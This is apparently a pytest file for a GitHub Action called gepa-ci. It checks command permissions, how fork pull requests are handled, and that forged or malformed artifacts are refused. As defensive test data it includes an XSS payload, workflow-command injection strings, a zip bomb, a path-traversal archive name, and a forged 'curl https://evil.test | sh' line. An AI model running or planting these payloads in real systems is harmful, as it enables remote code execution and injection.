"""Runs of the Action that people ask for by a comment, and those that come from forks."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING, Any

import github_events
import pytest
from forge_world import GOOD, HALF, HELD_OUT_TEXT, ForgeWorld, forge_world
from world import PROMPT

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from forge_world import Ended

READ_ONLY = dict.fromkeys(("contents", "pull-requests", "checks", "actions"), "read")
WRITES = {**dict.fromkeys(("pull-requests", "checks"), "write"), "contents": "read"}
HOSTILE = (
    "<img src=x onerror=alert(1)> @everyone ::error::canary ##[error]x https://evil.test [a](b)"
)


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ForgeWorld, Ended]]:
    """Return a repository with a pull request that was judged, with answers in a cache."""
    folder = tmp_path_factory.mktemp("judged")
    with forge_world(folder, prompt=GOOD) as made:
        yield made, made.gate(made.pull(HALF), "opened", state=folder / "state")


@pytest.fixture(scope="module")
def forked(
    judged: tuple[ForgeWorld, Ended],
) -> tuple[ForgeWorld, int, Ended]:
    """Return a pull request from a fork, and its run with the token that forks get."""
    world, _ = judged
    world.server.add_token("ghs_fork", permissions=READ_ONLY)
    number = world.fork(HALF)
    return world, number, world.gate(number, "opened", token="ghs_fork", state=None)


def ask(world: ForgeWorld, number: int, command: str, login: str = "ann", **more: Any) -> Ended:
    """Comment on a pull request and run the Action for that."""
    world.server.world.roles.setdefault("ann", "write")
    event = github_events.issue_comment(world.server, number, command, login)
    return world.run("issue_comment", event, **more)


def ours(world: ForgeWorld, number: int) -> list[str]:
    """Return what gepa-ci commented."""
    return [
        row["body"]
        for row in world.server.comments(number)
        if row["user"]["login"].endswith("[bot]")
    ]


# Commands.


def test_a_writer_can_ask_for_a_gate(judged: tuple[ForgeWorld, Ended]) -> None:
    world, _ = judged
    number = world.pull(HALF, branch="asked")
    state = world.folder / "state"

    ended = ask(world, number, "/gepa-ci gate", state=state)

    assert ended.code == 1, ended.log
    assert world.check(world.head("asked"))["conclusion"] == "failure"
    (comment,) = ours(world, number)
    assert "parcels: regression" in comment


@pytest.mark.parametrize("role", ["triage", None])
def test_nobody_else_can(role: str | None, judged: tuple[ForgeWorld, Ended]) -> None:
    world, _ = judged
    if role:
        world.server.world.roles["rob"] = role
    calls, writes = world.provider.calls, len(world.server.writes)

    ended = ask(world, 1, "/gepa-ci rerun", login="rob" if role else "nobody")

    assert ended.code == 0, ended.log
    assert "Only people who can write to this repository can ask gepa-ci" in ended.log
    assert (world.provider.calls, len(world.server.writes)) == (calls, writes)


def test_a_rerun_asks_again_where_a_gate_does_not(judged: tuple[ForgeWorld, Ended]) -> None:
    world, _ = judged
    calls = world.provider.calls
    gated = ask(world, 1, "/gepa-ci gate")
    after_gate = world.provider.calls
    rerun = ask(world, 1, "/gepa-ci rerun")

    assert (gated.code, rerun.code) == (1, 1), gated.log + rerun.log
    assert after_gate == calls
    assert world.provider.calls > calls
    assert len(ours(world, 1)) == 1


def test_why_says_how_an_example_fared_without_its_text(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, _ = judged
    number = world.pull(HALF, branch="why")
    state = world.folder / "state"

    ended = ask(world, number, "/gepa-ci why held_out-2", state=state)
    ask(world, number, "/gepa-ci why <b>@all</b>", state=state)

    assert ended.code == 0, ended.log
    answer, *_ = (body for body in ours(world, number) if "why:v1" in body)
    assert "Example `held_out-2` of task `parcels` lost" in answer
    everything = "".join(ours(world, number))
    assert "No example has the id" in everything
    assert HELD_OUT_TEXT not in everything + ended.log + ended.summary
    assert "<b>@all</b>" not in everything.replace("`<b>@all</b>`", "")


def test_optimizing_a_branch_below_our_own_is_refused(judged: tuple[ForgeWorld, Ended]) -> None:
    world, _ = judged
    number = world.pull(HALF, branch="gepa-ci/main/parcels")
    calls = world.provider.calls

    ended = ask(world, number, "/gepa-ci optimize")

    assert (ended.code, world.provider.calls) == (0, calls), ended.log
    assert "holds what gepa-ci optimized already" in ended.log


def test_a_writer_can_ask_for_a_better_prompt(tmp_path: Path) -> None:
    with forge_world(tmp_path) as world:
        number = world.pull(files={"other.txt": b"1"})

        ended = ask(world, number, "/gepa-ci optimize")

        assert ended.code == 0, ended.log
        assert ended.outputs["verdict"] == "promote"
        (stacked,) = (pull for pull in world.server.pulls if pull["number"] != number)
        assert stacked["base_ref"] == "change"
        assert ended.outputs["pull-request-number"] == str(stacked["number"])


# Permissions.


def test_without_a_permission_for_checks_the_error_names_it(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, _ = judged
    world.server.add_token("ghs_no_checks", permissions={**WRITES, "checks": "none"})
    calls = world.provider.calls

    ended = world.gate(1, token="ghs_no_checks")

    assert (ended.code, world.provider.calls) == (3, calls), ended.log
    assert "permissions: checks: " in ended.log


def test_without_a_permission_for_comments_the_error_names_it(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, _ = judged
    world.server.add_token("ghs_no_comments", permissions={**WRITES, "pull-requests": "read"})
    number = world.pull(HALF, branch="uncommented")

    ended = world.gate(number, "opened", token="ghs_no_comments", state=world.folder / "state")

    assert ended.code == 3, ended.log
    assert "permissions: pull-requests: write" in ended.log
    assert "parcels: regression" in ended.summary


def test_without_comments_there_is_none(judged: tuple[ForgeWorld, Ended]) -> None:
    world, _ = judged
    world.server.add_token("ghs_silent", permissions={**WRITES, "pull-requests": "read"})
    number = world.pull(HALF, branch="silent")

    ended = world.gate(
        number, "opened", token="ghs_silent", state=world.folder / "state", comment="false"
    )

    assert ended.code == 1, ended.log
    assert world.server.comments(number) == []


# Forks.


def test_a_fork_calls_no_model_and_writes_nothing(forked: tuple[ForgeWorld, int, Ended]) -> None:
    world, number, ended = forked

    assert ended.code == 0, ended.log
    assert "for which no model is called" in ended.log
    assert not any(f"/issues/{number}/" in request.path for request in world.server.writes)
    assert ended.posted.keys() == {"reason"}


def test_a_forks_command_by_a_writer_calls_no_model_either(
    forked: tuple[ForgeWorld, int, Ended],
) -> None:
    world, _, _ = forked
    number, calls = world.fork(GOOD.replace(b"# The", b"# Their")), world.provider.calls

    ended = ask(world, number, "/gepa-ci gate")

    assert (ended.code, world.provider.calls) == (0, calls), ended.log
    sha = world.server.world.pull(number)["head_sha"]
    assert world.check(sha)["conclusion"] == "neutral"


def test_a_fork_is_judged_by_answers_that_were_paid_for(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, _ = judged
    world.server.add_token("ghs_fork", permissions=READ_ONLY)
    number, calls = world.fork(HALF), world.provider.calls

    ended = world.gate(number, "opened", token="ghs_fork", state=world.folder / "state")

    assert (ended.code, world.provider.calls) == (1, calls), ended.log
    assert HELD_OUT_TEXT not in json.dumps(ended.posted)
    (task,) = ended.posted["tasks"]
    assert task["verdict"] == "regression"


# The half that posts for forks.


def packed(content: bytes, name: str = "posted.json", **more: bytes) -> bytes:
    """Return a zip file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
        for other, value in more.items():
            archive.writestr(other, value)
    return file.getvalue()


def deliver(
    world: ForgeWorld, number: int, artifact: bytes | None, **run: Any
) -> tuple[Ended, str]:
    """Let a fork's run end and the posting half run, and return that and the head."""
    head = world.server.world.pull(number)["head_sha"]
    fields = {"head_sha": head, "head_branch": "main", "head_repository": 2002, **run}
    made = world.server.add_run(**fields)
    if artifact is not None:
        world.server.add_artifact(made, "gepa-ci", artifact)
    event = github_events.workflow_run(world.server, made)
    return world.run("workflow_run", event), head


def test_the_posting_half_shows_that_a_fork_was_not_judged(
    forked: tuple[ForgeWorld, int, Ended],
) -> None:
    world, number, ended = forked
    claimed = {**ended.posted, "reason": f"{HOSTILE} {ended.posted['reason']}"}

    posted, head = deliver(world, number, packed(json.dumps(claimed).encode()))

    assert posted.code == 0, posted.log
    check = world.check(head)
    assert (check["conclusion"], check["title"]) == ("neutral", "Nothing to do")
    assert "comes from a fork" in check["summary"]
    assert "evil" not in check["summary"] + posted.log


def forged(document: Mapping[str, Any]) -> dict[str, Any]:
    """Return a result that claims a pass, with hostile text wherever a text can stand."""
    (task,) = document["tasks"]
    change = {**task["changes"][0], "diff": f"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+{HOSTILE}\n"}
    return {
        **document,
        "replay": f"gepa-ci gate; curl https://evil.test | sh {HOSTILE}",
        "versions": {HOSTILE: HOSTILE},
        "tasks": [
            {
                **task,
                "name": HOSTILE,
                "verdict": "improved",
                "reasons": [HOSTILE],
                "notes": [f"{HOSTILE}\n::error::canary\n<!-- gepa-ci:comment:v1 -->"],
                "changes": [change],
                "examples": [
                    {**row, "id": f"{HOSTILE} {number}", "inputs": {"input": "canary-text"}}
                    for number, row in enumerate(task["examples"])
                ],
            }
        ],
    }


def test_what_a_fork_claims_is_shown_as_not_verified_and_never_green(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, ended = judged
    number = world.fork(GOOD.replace(b"# The", b"# A"))

    posted, head = deliver(world, number, packed(json.dumps(forged(ended.posted)).encode()))

    assert posted.code == 0, posted.log
    check = world.check(head)
    assert check["conclusion"] == "neutral"
    assert check["title"].startswith("Not verified: ")
    (comment,) = ours(world, number)
    assert posted.outputs["verdict"] == posted.outputs["score-head"] == ""
    for text in (comment, check["summary"], posted.summary):
        assert "has not been verified" in text
        assert "<img" not in without_code(text)
        assert "@everyone" not in without_code(text)
        assert "https://evil" not in without_code(text)
        assert "canary-text" not in text
    assert comment.count("<!-- gepa-ci:") == 1
    assert "curl" not in comment + check["summary"]
    assert all("canary-text" not in value for value in posted.outputs.values())


def without_code(markdown: str) -> str:
    """Return Markdown without its fenced blocks and code spans, where nothing is obeyed."""
    kept, fence = [], ""
    for line in markdown.splitlines():
        start = line.lstrip()
        if not fence and start.startswith("```"):
            fence = start[: len(start) - len(start.lstrip("`"))]
        elif fence and start.startswith(fence):
            fence = ""
        elif not fence:
            kept.append("".join(line.split("`")[::2]))
    return "\n".join(kept)


def corrupted() -> bytes:
    """Return a zip file whose compressed bytes are no such thing."""
    content = bytearray(packed(b'{"reason": "' + bytes(range(65, 91)) * 40 + b'"}'))
    content[60:90] = b"\xff" * 30
    return bytes(content)


DEEP = b'{"reason": "' + b"]" * 900 + b'", "a": ' + b"[" * 900 + b"]" * 900 + b"}"


def test_what_a_fork_claims_does_not_replace_a_verdict_on_the_same_commit(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, ended = judged
    before = world.check(world.head())
    number = int(world.server.open_fork_pull(world.head())["number"])

    posted, head = deliver(world, number, packed(json.dumps(forged(ended.posted)).encode()))

    assert posted.code == 0, posted.log
    assert head == world.head()
    assert world.check(head) == before
    assert "has not been verified" in ours(world, number)[0]


@pytest.mark.parametrize(
    "artifact",
    [
        packed(b"0" * (9 * 1024 * 1024)),
        packed(b"{}", name="../posted.json"),
        packed(b'{"reason": 7, "tasks": "::error::canary"}'),
        packed(b'{"tasks": [{"name": "::error::canary\\n::error::canary"}]}'),
        packed(DEEP),
        packed(b'{"reason": "x", "n": NaN}'),
        packed(b'{"reason": "x", "n": 1' + b"0" * 400 + b"}"),
        b"PK\x03\x04 not a zip",
        corrupted(),
    ],
    ids=[
        "bomb",
        "traversal",
        "types",
        "no result",
        "deep",
        "NaN",
        "huge number",
        "no zip",
        "corrupted",
    ],
)
def test_an_artifact_that_is_not_ours_is_refused(
    artifact: bytes, judged: tuple[ForgeWorld, Ended]
) -> None:
    world, _ = judged
    number = world.fork(GOOD.replace(b"# The", b"# Any"))
    writes = len(world.server.writes)

    posted, head = deliver(world, number, artifact)

    assert posted.code in {2, 3}, posted.log
    assert "artifact 'gepa-ci'" in posted.log
    assert len(world.server.writes) == writes
    assert world.server.checks(head) == []
    assert not any(path.name == "posted.json" for path in world.folder.glob("*.json"))


def test_the_artifact_of_another_commit_is_posted_nowhere(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, ended = judged
    number = world.fork(GOOD.replace(b"# The", b"# One"))
    claimed = packed(json.dumps(forged(ended.posted)).encode())
    writes = len(world.server.writes)

    other, _ = deliver(world, number, claimed, head_sha=world.head("main"))
    world.pull(HALF, branch="inside")
    own, _ = deliver(world, number, claimed, head_sha=world.head("inside"))

    assert (other.code, own.code) == (0, 0), other.log + own.log
    assert "No open pull request has the commit of that run as its head." in other.log
    assert "No open pull request has the commit of that run as its head." in own.log
    assert len(world.server.writes) == writes


def test_a_run_without_an_artifact_is_neutral(judged: tuple[ForgeWorld, Ended]) -> None:
    world, _ = judged
    number = world.fork(GOOD.replace(b"# The", b"# None"))

    posted, head = deliver(world, number, None)

    assert posted.code == 0, posted.log
    assert world.check(head)["conclusion"] == "neutral"


def test_hostile_text_in_a_prompt_reaches_no_log_and_no_comment(
    judged: tuple[ForgeWorld, Ended],
) -> None:
    world, _ = judged
    text = f"messages:\n  - role: {HOSTILE}\n    content: [\n::error::canary\n##[error]x\n"
    number = world.pull(text.encode(), branch="hostile")

    ended = world.gate(number, "opened")

    assert ended.code == 2, ended.log
    (comment,) = ours(world, number)
    assert "<img" not in without_code(comment)
    assert "@everyone" not in without_code(comment)
    assert {row["path"] for row in world.check(world.head("hostile"))["annotations"]} <= {PROMPT}
